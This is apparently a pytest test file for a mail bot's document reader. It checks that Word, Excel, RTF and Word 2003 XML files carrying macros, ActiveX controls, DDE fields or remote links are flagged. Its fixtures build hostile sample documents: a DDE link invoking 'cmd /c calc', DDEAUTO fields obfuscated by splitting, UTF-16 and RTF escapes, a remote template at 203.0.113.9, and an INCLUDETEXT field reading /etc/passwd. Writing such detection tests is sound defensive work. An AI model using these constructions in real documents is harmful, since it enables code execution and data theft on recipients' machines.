"""What an Office program would run of a file when it opens it is told of, whatever its part is called (A46, A47); a page that only looks
so is not."""

from collections.abc import Mapping

import pytest

from mailbot.domain.documents import Document
from parsers.readers import read
from tests.mail.papers import book_parts, paragraph, relation, risk_body, risk_sheet, sheet_xml, still_zip, word_parts

_PACKAGE = "http://schemas.openxmlformats.org/package/2006/relationships"
_OFFICE_2006 = "http://schemas.microsoft.com/office/2006/relationships"


def _typed(parts: Mapping[str, bytes], name: str, type_: str, content: bytes, *, ending: bool = False) -> bytes:
    """A package with one more part, which it says is of a type: by its own name or by its ending."""
    said = f'<Default Extension="{name.rpartition(".")[2]}" ContentType="{type_}"/>' if ending else f'<Override PartName="/{name}" ContentType="{type_}"/>'
    listed = parts["[Content_Types].xml"].replace(b"</Types>", said.encode() + b"</Types>")
    return still_zip({**parts, "[Content_Types].xml": listed, name: content})


def _related(parts: Mapping[str, bytes], about: str, kind: str, target: str, content: bytes) -> bytes:
    """A package with one more part, which another points to as being of a kind."""
    rels = f'<Relationships xmlns="{_PACKAGE}"><Relationship Id="r9" Type="{kind}" Target="{target}"/></Relationships>'
    folder = about.rpartition("/")[0]
    return still_zip({**parts, f"{folder}/_rels/{about.rpartition('/')[2]}.rels": rels.encode(), f"{folder}/{target}": content})


WORD, BOOK = word_parts(risk_body()), book_parts({"问题清单": sheet_xml(risk_sheet())})
_SHEETS = "application/vnd.openxmlformats-officedocument.spreadsheetml."
_DDE = b'<externalLink xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><ddeLink ddeService="cmd" ddeTopic="/c calc"/></externalLink>'
_BOOK_LINK = _DDE.replace(b'<ddeLink ddeService="cmd" ddeTopic="/c calc"/>', b'<externalBook><sheetNames><sheetName val="1"/></sheetNames></externalBook>')


def _fields(*instructions: str) -> str:
    """A paragraph with fields, each instruction in pieces between |."""
    begin, end = (f'<w:r><w:fldChar w:fldCharType="{kind}"/></w:r>' for kind in ("begin", "end"))
    return "<w:p>" + "".join(begin + "".join(f"<w:r><w:instrText>{p}</w:instrText></w:r>" for p in i.split("|")) + end for i in instructions) + "</w:p>"


_HEADER = word_parts(risk_body(), relation("r5", "header", "header1.xml"))
_HEADER_ASKS = f'<w:hdr xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main">{_fields("DDEAUTO cmd")}</w:hdr>'.encode()
_UTF16 = {**WORD, "word/document.xml": word_parts(_fields("DDE|AUTO cmd") + risk_body())["word/document.xml"].decode().replace("UTF-8", "UTF-16").encode("utf-16")}
_WORD_2003 = (
    '<?xml version="1.0"?><w:wordDocument xmlns:w="http://schemas.microsoft.com/office/word/2003/wordml">{}'
    "<w:body><w:p><w:r><w:t>清单</w:t></w:r></w:p></w:body></w:wordDocument>"
)  # fmt: skip
RUNS = {
    "VBA in Word by the type of the part": _typed(WORD, "word/evil.bin", "application/vnd.ms-office.vbaProject", b"x"),
    "VBA in Word by the ending": _typed(WORD, "word/evil.dat", "application/vnd.ms-office.vbaProject", b"x", ending=True),
    "VBA in Word by the relation": _related(WORD, "word/document.xml", f"{_OFFICE_2006}/vbaProject", "theme.bin", b"x"),
    "a control of Word by the relation": still_zip({**word_parts(risk_body(), relation("r7", "control", "a1.xml")), "word/a1.xml": b"<ocx/>"}),
    "a control by the type": _typed(WORD, "word/a1.xml", "application/vnd.ms-office.activeX+xml", b"<ocx/>"),
    "VBA in Excel by the relation": _related(BOOK, "xl/worksheets/sheet1.xml", f"{_OFFICE_2006}/vbaProject", "x.bin", b"x"),
    "Excel 4 macros by the type": _typed(BOOK, "xl/worksheets/sheet2.xml", "application/vnd.ms-excel.macrosheet+xml", b"<m/>"),
    "Excel 4 macros of another language": _typed(BOOK, "xl/worksheets/sheet2.xml", "application/vnd.ms-excel.intlmacrosheet+xml", b"<m/>"),
    "Excel 4 macros by the relation": _related(BOOK, "xl/worksheets/sheet1.xml", f"{_OFFICE_2006}/xlMacrosheet", "s2.xml", b"<m/>"),
    "a workbook that asks cmd": still_zip({**BOOK, "xl/externalLinks/externalLink1.xml": _DDE}),
    "a workbook that asks cmd, by the type": _typed(BOOK, "xl/x1.xml", f"{_SHEETS}externalLink+xml", _DDE),
    "a workbook that asks cmd, in UTF-16": still_zip({**BOOK, "xl/externalLinks/externalLink1.xml": _DDE.decode().encode("utf-16")}),
    "a field in a header": still_zip({**_HEADER, "word/header1.xml": _HEADER_ASKS}),
    "a field in pieces of UTF-16": still_zip(_UTF16),
    "a field behind another": still_zip(word_parts(_fields("HYPERLINK x", " dde|auto c:\\\\x") + risk_body())),
    "a template on a server": still_zip(word_parts(risk_body(), relation("r8", "attachedTemplate", "http://203.0.113.9/t.dotm", external=True))),
    "a linked object on a server": still_zip(word_parts(risk_body(), relation("r7", "oleObject", "mhtml:http://203.0.113.9/x.html!x", external=True))),
    "a field of RTF": rb"{\rtf1\ansi{\field{\*\fldinst DDEAUTO c:\\\\x}{\fldrslt x}}a\par}",
    "a field of RTF in pieces": b"{\\rtf1\\ansi{\\field{\\*\\fldinst {\\b D}{\\i DE\r\nAU}TO c:\\\\\\\\x}{\\fldrslt x}}a\\par}",
    "a field of RTF in numbers": rb"{\rtf1\ansi{\field{\*\fldinst \u68?\'44{\uc0\u69}AUTO x}{\fldrslt x}}a\par}",
    "a field of RTF in another": rb"{\rtf1\ansi{\field{\*\fldinst IF 1=1 {\field{\*\fldinst DDE x y}{\fldrslt z}}}{\fldrslt x}}a\par}",
    "a field of RTF in its header": rb"{\rtf1\ansi{\header{\field{\*\fldinst DDE x y}{\fldrslt z}}}a\par}",
    "a linked object of RTF": rb"{\rtf1\ansi{\object\objautlink{\*\objclass Excel.Sheet}{\*\objdata 0105}}a\par}",
    "an object of RTF that is renewed": rb"{\rtf1\ansi{\object\objemb\objupdate{\*\objdata 0105}}a\par}",
    "a control of RTF": rb"{\rtf1\ansi{\object\objocx{\*\objdata 0105}}a\par}",
    "macros of Word 2003 XML": _WORD_2003.format('<w:docSuppData><w:binData w:name="editdata.mso">AA==</w:binData></w:docSuppData>').encode(),
    "a field of Word 2003 XML": _WORD_2003.replace("<w:r>", '<w:fldSimple w:instr=" DDE x y"/><w:r>').format("").encode(),
}  # fmt: skip
STILL = {
    "links to pages with names like that": still_zip(word_parts(_fields('HYPERLINK "http://a.example/added/hidden.html"', "PAGE", "TOC \\o") + risk_body())),
    "words about it": still_zip(word_parts(paragraph("DDEAUTO 字段和 vbaProject、activeX、ddeLink 都不要用") + risk_body())),
    "a type of which no part is there": still_zip({
        **WORD, "[Content_Types].xml": WORD["[Content_Types].xml"].replace(b"</Types>", b'<Default Extension="bin" ContentType="x/vbaProject"/></Types>')}),
    "a part with a type of its own beside such an ending": _typed({
        **BOOK, "xl/printer1.bin": b"x", "[Content_Types].xml": BOOK["[Content_Types].xml"].replace(
            b"</Types>", b'<Override PartName="/xl/printer1.bin" ContentType="x/printerSettings"/></Types>')},
        "xl/vml.vml", "application/vnd.openxmlformats-officedocument.vmlDrawing", b"<xml/>", ending=True),
    "a checkbox of a sheet": _related(BOOK, "xl/worksheets/sheet1.xml", "http://x/relationships/ctrlProp", "ctrlProp1.xml", b"<formControlPr/>"),
    "figures out of another workbook": _typed(BOOK, "xl/externalLinks/externalLink1.xml", f"{_SHEETS}externalLink+xml", _BOOK_LINK),
    "RTF with an equation and a link": rb'{\rtf1\ansi{\object\objemb{\*\objclass Equation.3}{\*\objdata 0105}}{\field{\*\fldinst HYPERLINK "http://a.example/dde"}'
    rb"{\fldrslt DDEAUTO}}a\par}",
    "Word 2003 XML": _WORD_2003.format("").encode(),
}  # fmt: skip


def _read(content: bytes) -> Document:
    found = read(content)
    assert found.trouble is None and found.blocks, found.detail
    return found


@pytest.mark.shows("A46", "A47")
@pytest.mark.parametrize("case", RUNS)
def test_what_would_run_is_told_by_what_it_is_and_the_words_are_read(case: str) -> None:
    assert _read(RUNS[case]).macro


@pytest.mark.shows("A47")
@pytest.mark.parametrize("case", STILL)
def test_a_file_that_runs_nothing_is_not_told_of(case: str) -> None:
    assert not _read(STILL[case]).macro


_CHUNK = still_zip({**word_parts(risk_body() + '<w:altChunk r:id="r4"/>', relation("r4", "aFChunk", "chunk.html")), "word/chunk.html": b"<html><p>x</p></html>"})
_OBJECT = still_zip({**word_parts(risk_body(), relation("r7", "oleObject", "embeddings/o1.bin")), "word/embeddings/o1.bin": b"x"})
TOLD = {
    "a picture on a server": (word_parts(risk_body(), relation("r9", "image", "http://203.0.113.9/x.png", external=True)), "leads out of the file: image"),
    "a template on this machine": (
        word_parts(risk_body(), relation("r8", "attachedTemplate", "file:///C:/t.dotx", external=True)), "leads out of the file: attachedTemplate"),
    "a linked object on this machine": (
        word_parts(risk_body(), relation("r7", "oleObject", r"D:\a.xlsx", external=True)), "leads out of the file: oleObject"),
    "a field that fetches a file": (word_parts(_fields('INCLUDE|TEXT "/etc/passwd"') + risk_body()), "leads out of the file: INCLUDETEXT"),
    "a page of HTML": (_CHUNK, "brings along: aFChunk"),
    "an object": (_OBJECT, "brings along: oleObject"),
    "another workbook on a share": (
        {**BOOK, "xl/externalLinks/_rels/externalLink1.xml.rels": f'<Relationships xmlns="{_PACKAGE}"><Relationship Id="r1" Type="x/externalLinkPath" '
         r'Target="\\203.0.113.9\share\a.xlsx" TargetMode="External"/></Relationships>'.encode()}, "leads out of the file: externalLinkPath"),
    "a link to a page, a page number and an address": (
        word_parts(_fields('HYPERLINK "mailto:a@b.example"', "PAGE", "TOC") + risk_body(), relation("r9", "hyperlink", "http://a.example/", external=True)), ""),
}  # fmt: skip


@pytest.mark.shows("A46", "A49", "A67")
@pytest.mark.parametrize("case", TOLD)
def test_what_leads_out_of_a_file_or_is_brought_along_is_told_to_staff_and_the_words_are_read(case: str) -> None:
    content, told = TOLD[case]
    found = _read(content if isinstance(content, bytes) else still_zip(content))
    assert (found.detail, found.macro) == (told, False)


def test_no_word_of_the_sender_stands_in_what_is_told() -> None:
    relations = "".join(relation(f"r{n}", kind, "x\x1b[2J" if n else "y", external=True) for n, kind in enumerate(("a b", "图片", "x&#10;y")))
    assert _read(still_zip(word_parts(risk_body(), relations.replace("\x1b", "")))).detail == ""


@pytest.mark.shows("A47")
def test_many_empty_fields_do_not_keep_the_reader_busy() -> None:
    assert not _read(b"{\\rtf1 a" + b"{\\field{\\*\\fldinst" + b"{\\field \\fldrslt \t}" * 200_000 + b"}}}").macro
